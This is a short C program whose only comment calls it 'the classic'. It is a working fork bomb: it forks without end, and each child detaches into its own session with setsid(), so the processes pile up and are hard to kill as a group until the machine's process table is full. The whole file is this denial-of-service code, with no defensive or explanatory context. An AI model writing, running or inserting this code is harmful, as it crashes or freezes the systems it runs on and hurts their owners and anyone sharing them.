// The classic: every process starts more, for ever, and each in a session of its own.
#include <unistd.h>

int main(void) {
    for (;;) {
        if (fork() == 0) setsid();
    }
}
